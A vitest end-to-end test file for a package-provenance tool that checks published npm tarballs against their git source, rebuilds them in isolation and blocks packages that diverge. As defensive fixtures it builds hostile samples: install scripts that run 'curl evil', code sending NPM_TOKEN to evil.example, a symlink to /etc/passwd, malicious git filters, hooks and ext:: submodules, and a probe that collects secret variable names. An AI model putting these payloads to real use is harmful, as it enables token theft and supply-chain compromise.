/**
 * Source match end to end: a real git smart-HTTP server (reached through `insteadOf` in a
 * test-only global git config), a real registry (verdaccio) serving tarballs packed from those
 * repositories, the CLI `verify` in between.
 */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runCli } from './helpers/cli';
import { startGitServer, type GitServer } from './helpers/git-server';
import { manifestText, publishFiles } from './helpers/publish-files';
import { startRegistry, type PublishedPackage, type TestRegistry } from './helpers/registry';

let git: GitServer;
let registry: TestRegistry;
let work: string;
let markers: string;
const published: Record<string, PublishedPackage> = {};

const S = '@pg-fixture';
const repo = (slug: string) => ({ type: 'git', url: `git+https://github.com/${slug}.git` });

function env(): NodeJS.ProcessEnv {
  return { PATH: process.env.PATH, HOME: work, npm_config_userconfig: join(work, '.npmrc'), GIT_CONFIG_GLOBAL: git.gitConfig, GIT_CONFIG_NOSYSTEM: '1' };
}
const cli = (args: string[], cwd = work) => runCli(cwd, args, env());

async function fixture(slug: string, source: Record<string, string>, tarball: Record<string, string>, options: { gitHead?: boolean; tags?: string[]; gitlinks?: Record<string, string>; symlinks?: Record<string, string> } = {}) {
  const commit = git.createRepo({ slug, files: source, ...(options.tags ? { tags: options.tags } : {}), ...(options.gitlinks ? { gitlinks: options.gitlinks } : {}), ...(options.symlinks ? { symlinks: options.symlinks } : {}) });
  const pkg = await publishFiles(registry.url, { files: tarball, ...(options.gitHead === false ? {} : { metadata: { gitHead: commit } }) });
  published[pkg.name] = pkg;
  return { commit, pkg };
}

function hostileGitConfig(): void {
  // What a user's global config may hold: filter drivers, LFS, a hooks directory. None may run.
  const hooks = join(markers, 'hooks');
  mkdirSync(hooks, { recursive: true });
  for (const hook of ['reference-transaction', 'post-checkout', 'post-merge', 'post-index-change', 'pre-auto-gc']) {
    writeFileSync(join(hooks, hook), `#!/bin/sh\ntouch "${markers}/hook-${hook}"\n`, { mode: 0o755 });
  }
  const touch = (what: string) => `sh -c 'touch ${markers}/${what}; cat'`;
  writeFileSync(
    git.gitConfig,
    `${'' + require('node:fs').readFileSync(git.gitConfig, 'utf8')}[core]\n\thooksPath = ${hooks}\n[filter "evil"]\n\tsmudge = ${touch('filter-smudge')}\n\tclean = ${touch('filter-clean')}\n\trequired = true\n[filter "lfs"]\n\tsmudge = ${touch('lfs-smudge')}\n\tprocess = ${touch('lfs-process')}\n[protocol "ext"]\n\tallow = always\n`,
  );
}

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'pg-verify-'));
  markers = join(work, 'markers');
  mkdirSync(markers);
  [git, registry] = await Promise.all([startGitServer(), startRegistry()]);
  writeFileSync(join(work, '.npmrc'), `registry=${registry.url}/\n`);
  hostileGitConfig();

  const plain = { name: `${S}/sm-plain`, version: '1.0.0', main: 'index.js', files: ['index.js', 'lib/'], repository: repo('pg-fixture/plain'), license: 'MIT' };
  await fixture(
    'pg-fixture/plain',
    { 'package.json': manifestText(plain), 'index.js': 'module.exports = require("./lib/util");\n', 'lib/util.js': 'module.exports = 42;\n', 'test/a.test.js': 'test\n', 'README.md': '# plain\n' },
    { 'package.json': manifestText(plain), 'index.js': 'module.exports = require("./lib/util");\n', 'lib/util.js': 'module.exports = 42;\n', 'README.md': '# plain\n' },
  );

  const built = { name: `${S}/sm-built`, version: '1.0.0', main: 'dist/index.js', files: ['dist'], scripts: { build: 'tsc' }, repository: repo('pg-fixture/built') };
  await fixture('pg-fixture/built', { 'package.json': manifestText(built), 'src/index.ts': 'export default 1;\n', '.gitignore': 'dist\n' }, { 'package.json': manifestText(built), 'dist/index.js': 'exports.default = 1;\n' });

  const inject = { name: `${S}/sm-inject`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/inject') };
  await fixture(
    'pg-fixture/inject',
    { 'package.json': manifestText(inject), 'index.js': 'module.exports = 1;\n' },
    { 'package.json': manifestText({ ...inject, scripts: { postinstall: 'node install.js' } }), 'index.js': 'module.exports = 1;\n', 'install.js': 'require("child_process").exec("curl evil")\n' },
  );

  const modified = { name: `${S}/sm-modified`, version: '1.0.0', main: 'lib/index.js', repository: repo('pg-fixture/modified') };
  await fixture(
    'pg-fixture/modified',
    { 'package.json': manifestText(modified), 'lib/index.js': 'module.exports = (a) => a;\n' },
    { 'package.json': manifestText(modified), 'lib/index.js': 'module.exports = (a) => { require("https").get("https://evil.example/" + process.env.NPM_TOKEN); return a; };\n' },
  );

  const tagged = { name: `${S}/sm-tag`, version: '2.0.0', main: 'index.js', repository: repo('pg-fixture/tag') };
  await fixture('pg-fixture/tag', { 'package.json': manifestText(tagged), 'index.js': 'module.exports = 2;\n' }, { 'package.json': manifestText(tagged), 'index.js': 'module.exports = 2;\n' }, { gitHead: false, tags: ['v1.0.0', 'annotated:v2.0.0'] });

  const tagged2 = { name: `${S}/sm-tag2`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/tag2') };
  await fixture('pg-fixture/tag2', { 'package.json': manifestText(tagged2), 'index.js': '1\n' }, { 'package.json': manifestText(tagged2), 'index.js': '1\n' }, { gitHead: false, tags: ['sm-tag2-v1.0.0'] });

  const badHead = { name: `${S}/sm-badhead`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/badhead') };
  git.createRepo({ slug: 'pg-fixture/badhead', files: { 'package.json': manifestText(badHead), 'index.js': '1\n' }, tags: ['v1.0.0'] });
  published[badHead.name] = await publishFiles(registry.url, { files: { 'package.json': manifestText(badHead), 'index.js': '1\n' }, metadata: { gitHead: 'f'.repeat(40) } });

  const noTag = { name: `${S}/sm-notag`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/notag') };
  await fixture('pg-fixture/notag', { 'package.json': manifestText(noTag), 'index.js': '1\n' }, { 'package.json': manifestText(noTag), 'index.js': '1\n' }, { gitHead: false, tags: ['v0.9.0'] });

  const noRepo = { name: `${S}/sm-norepo`, version: '1.0.0', main: 'index.js' };
  published[noRepo.name] = await publishFiles(registry.url, { files: { 'package.json': manifestText(noRepo), 'index.js': '1\n' } });

  const monoA = { name: `${S}/sm-mono-a`, version: '1.0.0', main: 'index.js', repository: { ...repo('pg-fixture/mono'), directory: 'packages/a' } };
  const monoB = { name: `${S}/sm-mono-b`, version: '1.0.0', main: 'index.js', repository: 'https://github.com/pg-fixture/mono/tree/main/packages/b' };
  const monoC = { name: `${S}/sm-mono-c`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/mono') };
  const monoSource = {
    'package.json': manifestText({ name: 'mono', private: true, workspaces: ['packages/*'] }),
    '.gitignore': '*.log\n',
    'packages/a/package.json': manifestText(monoA),
    'packages/a/index.js': 'module.exports = "a";\n',
    'packages/a/debug.log': 'ignored by the root .gitignore\n',
    'packages/b/package.json': manifestText(monoB),
    'packages/b/index.js': 'module.exports = "b";\n',
    'packages/c/package.json': manifestText(monoC),
    'packages/c/index.js': 'module.exports = "c";\n',
  };
  const { commit: monoCommit } = await fixture('pg-fixture/mono', monoSource, { 'package.json': manifestText(monoA), 'index.js': 'module.exports = "a";\n' });
  published[monoB.name] = await publishFiles(registry.url, { files: { 'package.json': manifestText(monoB), 'index.js': 'module.exports = "b";\n' }, metadata: { gitHead: monoCommit } });
  published[monoC.name] = await publishFiles(registry.url, { files: { 'package.json': manifestText(monoC), 'index.js': 'module.exports = "c";\n' }, metadata: { gitHead: monoCommit } });
  const stranger = { name: `${S}/sm-stranger`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/mono') };
  published[stranger.name] = await publishFiles(registry.url, { files: { 'package.json': manifestText(stranger), 'index.js': '1\n' }, metadata: { gitHead: monoCommit } });

  const probe = [
    "const fs = require('fs'); const http = require('http');",
    "const out = { home: process.env.HOME, secrets: Object.keys(process.env).filter((k) => /token|auth|password/i.test(k)) };",
    "const done = () => fs.writeFileSync(process.argv[2], JSON.stringify(out));",
    "const req = http.get(process.argv[3], () => { out.network = true; done(); });",
    "req.on('error', (e) => { out.network = false; out.error = e.code; done(); });",
    "req.setTimeout(15000, () => req.destroy(new Error('timeout')));",
  ].join('\n');
  // prepack reports what the build could reach: a server that answers at once (the git server).
  const rebuild = { name: `${S}/sm-rebuild`, version: '1.0.0', main: 'index.js', files: ['index.js'], scripts: { prepack: `node probe.js ${join(markers, 'probe.json')} ${git.url}/pg-fixture/plain/info/refs` }, repository: repo('pg-fixture/rebuild') };
  await fixture('pg-fixture/rebuild', { 'package.json': manifestText(rebuild), 'index.js': '1\n', 'probe.js': probe }, { 'package.json': manifestText(rebuild), 'index.js': '1\n' });

  // Manifest confusion: the tarball is the source, the registry's manifest adds an install script.
  const confused = { name: `${S}/sm-confused`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/confused') };
  const confusedFiles = { 'package.json': manifestText(confused), 'index.js': 'module.exports = 1;\n' };
  const confusedCommit = git.createRepo({ slug: 'pg-fixture/confused', files: confusedFiles });
  published[confused.name] = await publishFiles(registry.url, { files: confusedFiles, metadata: { gitHead: confusedCommit, scripts: { postinstall: 'node index.js' } } });

  // index.js is a link to lib/index.js in the source: the tarball's index.js must be lib/index.js.
  const linked = { name: `${S}/sm-linked`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/linked') };
  await fixture(
    'pg-fixture/linked',
    { 'package.json': manifestText(linked), 'lib/index.js': 'module.exports = 1;\n' },
    { 'package.json': manifestText(linked), 'lib/index.js': 'module.exports = 1;\n', 'index.js': 'require("child_process").exec("curl evil");\n' },
    { symlinks: { 'index.js': 'lib/index.js' } },
  );

  const hostile = { name: `${S}/sm-hostile`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/hostile') };
  await fixture(
    'pg-fixture/hostile',
    {
      'package.json': manifestText(hostile),
      'index.js': 'module.exports = 1;\n',
      '.gitattributes': '* filter=evil\n*.js filter=lfs diff=lfs merge=lfs\n',
      '.gitmodules': `[submodule "sub"]\n\tpath = sub\n\turl = ext::sh -c touch% ${markers}/submodule\n`,
    },
    { 'package.json': manifestText(hostile), 'index.js': 'module.exports = 1;\n' },
    { gitlinks: { sub: 'a'.repeat(40) }, symlinks: { 'leak.txt': '/etc/passwd' } },
  );
}, 120_000);

afterAll(async () => {
  await Promise.all([git?.close(), registry?.close()]);
  rmSync(work, { recursive: true, force: true });
});

interface VerifyDoc {
  packages: {
    name: string;
    repository?: { url?: string; status: string; directory?: string };
    contents: { verdict: string; commit?: string; commitFrom?: string; files?: { identical: number; generated: number; modified: string[]; added: string[] }; reason?: string };
  }[];
}

async function verifyJson(...names: string[]): Promise<{ code: number; doc: VerifyDoc; stderr: string }> {
  const r = await cli(['verify', ...names.map((n) => `${n}@${published[n]!.version}`), '--format', 'json']);
  return { code: r.code, doc: JSON.parse(r.stdout) as VerifyDoc, stderr: r.stderr };
}

describe('provenance-guard verify', () => {
  test('a package published as is from its repository matches', async () => {
    const { code, doc } = await verifyJson(`${S}/sm-plain`);
    expect(code).toBe(0);
    const p = doc.packages[0]!;
    expect(p.contents).toMatchObject({ verdict: 'match', commitFrom: 'gitHead', files: { identical: 4, generated: 0, modified: [], added: [] } });
    expect(p.contents.commit).toMatch(/^[0-9a-f]{40}$/);
    expect(p.repository).toMatchObject({ url: 'https://github.com/pg-fixture/plain', status: 'claimed' });
  });

  test('build output absent from the source is built', async () => {
    const { code, doc } = await verifyJson(`${S}/sm-built`);
    expect(code).toBe(0);
    expect(doc.packages[0]!.contents).toMatchObject({ verdict: 'built', files: { identical: 1, generated: 1, modified: [], added: [] } });
    expect(doc.packages[0]!.contents.reason).toContain('dist/index.js');
  });

  test('an injected install script and a modified file are diverged, naming the files (exit 1)', async () => {
    const { code, doc } = await verifyJson(`${S}/sm-inject`, `${S}/sm-modified`, `${S}/sm-plain`);
    expect(code).toBe(1);
    const [inject, modified, plain] = doc.packages;
    expect(inject!.contents).toMatchObject({ verdict: 'diverged', files: { modified: ['package.json'], added: ['install.js'] } });
    expect(inject!.contents.reason).toContain('scripts.postinstall');
    expect(inject!.contents.reason).toContain('install.js');
    expect(modified!.contents).toMatchObject({ verdict: 'diverged', files: { identical: 1, modified: ['lib/index.js'], added: [] } });
    expect(modified!.contents.reason).toContain('lib/index.js');
    expect(plain!.contents.verdict).toBe('match');
  });

  test('without gitHead, a tag naming the version is found with ls-remote', async () => {
    const { code, doc } = await verifyJson(`${S}/sm-tag`, `${S}/sm-tag2`);
    expect(code).toBe(0);
    expect(doc.packages[0]!.contents).toMatchObject({ verdict: 'match', commitFrom: 'tag:v2.0.0' });
    expect(doc.packages[1]!.contents).toMatchObject({ verdict: 'match', commitFrom: 'tag:sm-tag2-v1.0.0' });
  });

  test('a gitHead the remote does not have falls back to the version tag, and says so', async () => {
    const { code, doc } = await verifyJson(`${S}/sm-badhead`);
    expect(code).toBe(0);
    expect(doc.packages[0]!.contents).toMatchObject({ verdict: 'match', commitFrom: 'tag:v1.0.0' });
    expect(doc.packages[0]!.contents.reason).toMatch(/gitHead ffffffffffff cannot be fetched/);
  });

  test('no repository, or no commit, is inconclusive with the reason; no repository is status none', async () => {
    const { code, doc } = await verifyJson(`${S}/sm-norepo`, `${S}/sm-notag`);
    expect(code).toBe(0);
    expect(doc.packages[0]!.repository).toEqual({ status: 'none' });
    expect(doc.packages[0]!.contents.verdict).toBe('inconclusive');
    expect(doc.packages[0]!.contents.reason).toMatch(/no source repository/);
    expect(doc.packages[1]!.contents.verdict).toBe('inconclusive');
    expect(doc.packages[1]!.contents.reason).toMatch(/no tag naming 1\.0\.0/);
  });

  test('a monorepo package is compared under repository.directory (object form and /tree/<ref>/<dir> URL)', async () => {
    const { code, doc } = await verifyJson(`${S}/sm-mono-a`, `${S}/sm-mono-b`);
    expect(code).toBe(0);
    expect(doc.packages[0]!.repository).toMatchObject({ url: 'https://github.com/pg-fixture/mono', directory: 'packages/a' });
    expect(doc.packages[0]!.contents).toMatchObject({ verdict: 'match', files: { identical: 2 } });
    expect(doc.packages[1]!.repository).toMatchObject({ url: 'https://github.com/pg-fixture/mono', directory: 'packages/b' });
    expect(doc.packages[1]!.contents).toMatchObject({ verdict: 'match', files: { identical: 2 } });
  });

  test('without repository.directory the package is found by name; a repository that does not hold it is inconclusive', async () => {
    const { code, doc } = await verifyJson(`${S}/sm-mono-c`, `${S}/sm-stranger`);
    expect(code).toBe(0);
    expect(doc.packages[0]!.contents).toMatchObject({ verdict: 'match', files: { identical: 2 } });
    expect(doc.packages[0]!.contents.reason).toContain('packages/c/');
    expect(doc.packages[1]!.contents.verdict).toBe('inconclusive');
    expect(doc.packages[1]!.contents.reason).toMatch(/holds package mono, not @pg-fixture\/sm-stranger/);
  });

  test("a registry manifest that says otherwise than the tarball's package.json (what npm installs by) is diverged", async () => {
    const { code, doc } = await verifyJson(`${S}/sm-confused`);
    expect(code).toBe(1);
    expect(doc.packages[0].contents).toMatchObject({ verdict: 'diverged', files: { modified: ['package.json (the registry manifest)'] } });
    expect(doc.packages[0].contents.reason).toContain('scripts.postinstall');
  });

  test('a tarball file at a path that is a symbolic link in the source is compared with its target', async () => {
    const { code, doc } = await verifyJson(`${S}/sm-linked`);
    expect(code).toBe(1);
    expect(doc.packages[0].contents).toMatchObject({ verdict: 'diverged', files: { modified: ['index.js'] } });
  });

  test('hooks, filter drivers, LFS, submodules and symlinks of a repository never run or resolve', async () => {
    const { code, doc } = await verifyJson(`${S}/sm-hostile`);
    expect(code).toBe(0);
    expect(doc.packages[0]!.contents.verdict).toBe('match');
    expect(readdirSync(markers).filter((f) => f !== 'hooks' && f !== 'probe.json')).toEqual([]);
  });

  test('a second run is served from the verdict cache without touching git', async () => {
    const dir = mkdtempSync(join(work, 'cache-'));
    const first = await cli(['verify', `${S}/sm-plain@1.0.0`, `${S}/sm-built@1.0.0`, '--format', 'json'], dir);
    expect(first.code).toBe(0);
    const before = git.requests();
    const second = await cli(['verify', `${S}/sm-plain@1.0.0`, `${S}/sm-built@1.0.0`, '--format', 'json'], dir);
    expect(git.requests()).toBe(before);
    expect(JSON.parse(second.stdout)).toEqual(JSON.parse(first.stdout));
  });

  test('human output names the verdict and the deciding files; bad specs are usage errors', async () => {
    const r = await cli(['verify', `${S}/sm-modified@1.0.0`, `${S}/sm-built@1.0.0`]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('DIVERGED');
    expect(r.stdout).toContain('modified: lib/index.js');
    const bad = await cli(['verify', 'left-pad@^1']);
    expect(bad.code).toBe(2);
    expect((await cli(['verify'])).code).toBe(2);
    writeFileSync(join(work, 'empty.ndjson'), '');
    expect((await cli(['feed', 'build', '--records', 'empty.ndjson', '--verify-source', '--key', 'k', '--out', 'o'])).code).toBe(2);
    const missing = await cli(['verify', `${S}/sm-plain@9.9.9`, '--format', 'json']);
    expect(missing.code).toBe(2);
    expect(JSON.parse(missing.stdout).packages[0].error.code).toBe('ERR_PG_EVIDENCE_NOT_FOUND');
    expect(existsSync(join(markers, 'submodule'))).toBe(false);
  });
});

describe('verify --rebuild', () => {
  test('builds from the commit without network or credentials, packs, and compares', async () => {
    const r = await runCli(work, ['verify', `${S}/sm-rebuild@1.0.0`, `${S}/sm-inject@1.0.0`, '--rebuild', '--format', 'json'], { ...env(), NPM_TOKEN: 'secret', [`npm_config_//127.0.0.1:${registry.port}/:_authToken`]: 'secret' });
    const doc = JSON.parse(r.stdout);
    const [rebuilt, inject] = doc.packages;
    expect(rebuilt.contents.verdict).toBe('match');
    expect(rebuilt.rebuild).toMatchObject({ verdict: 'reproducible', source: 'provenance-guard', files: [] });
    expect(inject.rebuild).toMatchObject({ verdict: 'not-reproducible', source: 'provenance-guard' });
    expect(inject.rebuild.files).toEqual(expect.arrayContaining(['install.js (not in the rebuild)', 'package.json']));
    expect(r.code).toBe(1);
    const seen = JSON.parse(require('node:fs').readFileSync(join(markers, 'probe.json'), 'utf8'));
    expect(seen.secrets).toEqual([]);
    expect(seen.home).not.toBe(work);
    // Namespaces work as root here: the build had no network at all.
    expect(seen.network).toBe(false);
    expect(seen.error).not.toBe('timeout');
    expect(rebuilt.rebuild.reason).not.toContain('NOT isolated');
  });
});

describe('feed build --verify-source and rule contents', () => {
  test('records carry contents, and check blocks the diverged package under rules.contents', async () => {
    const dir = mkdtempSync(join(work, 'feed-'));
    const inject = published[`${S}/sm-inject`]!;
    const plain = published[`${S}/sm-plain`]!;
    const built = published[`${S}/sm-built`]!;
    const keys = await cli(['feed', 'keygen', '--out-dir', 'keys'], dir);
    const rc = (require: string) =>
      `mode: block\nunknown: allow\nfeed:\n  source: ./feed\n  publicKeys: ["${keys.stdout.trim()}"]\nrules:\n  repository: off\n  contents: { require: ${require} }\n` +
      `sources:\n  registry: { url: "${registry.url}" }\n  provenance: off\n  depsDev: off\n  scorecard: off\n  ossRebuild: off\n`;
    writeFileSync(join(dir, '.provenancerc'), rc('built'));
    const lock = { name: 'app', lockfileVersion: 3, packages: { '': { name: 'app', dependencies: Object.fromEntries([inject, plain, built].map((p) => [p.name, p.version])) } } as Record<string, unknown> };
    for (const p of [inject, plain, built]) lock.packages[`node_modules/${p.name}`] = { version: p.version, integrity: p.integrity };
    writeFileSync(join(dir, 'package-lock.json'), JSON.stringify(lock, null, 2));

    const feed = await cli(['feed', 'build', '--from-lockfile', 'package-lock.json', '--verify-source', '--records-out', 'records.ndjson', '--key', 'keys/feed.key', '--out', 'feed'], dir);
    expect(feed.code).toBe(0);
    const records = require('node:fs').readFileSync(join(dir, 'records.ndjson'), 'utf8').trim().split('\n').map((l: string) => JSON.parse(l));
    const byName = Object.fromEntries(records.map((r: { name: string }) => [r.name, r]));
    expect(byName[inject.name].contents).toMatchObject({ verdict: 'diverged', files: { added: ['install.js'] } });
    expect(byName[plain.name].contents.verdict).toBe('match');
    expect(byName[built.name].contents.verdict).toBe('built');

    const check = await cli(['check', '--format', 'json'], dir);
    expect(check.code).toBe(1);
    const report = JSON.parse(check.stdout);
    const verdicts = Object.fromEntries(report.packages.map((p: { name: string; verdict: string }) => [p.name, p.verdict]));
    expect(verdicts).toEqual({ [inject.name]: 'block', [plain.name]: 'pass', [built.name]: 'pass' });
    const finding = report.packages.find((p: { name: string }) => p.name === inject.name).findings[0];
    expect(finding).toMatchObject({ rule: 'contents', severity: 'block' });
    expect(finding.message).toContain('install.js');

    // require: match also blocks build output; explain shows the verdict and its files.
    writeFileSync(join(dir, '.provenancerc'), rc('match'));
    const strict = JSON.parse((await cli(['check', '--format', 'json'], dir)).stdout);
    expect(strict.packages.find((p: { name: string }) => p.name === built.name).verdict).toBe('block');
    const explain = await cli(['explain', `${inject.name}@${inject.version}`], dir);
    expect(explain.stdout).toMatch(/contents\s+diverged at [0-9a-f]{40} \(gitHead\); 1 identical, 0 generated, modified: package.json, added: install.js/);
  });
});
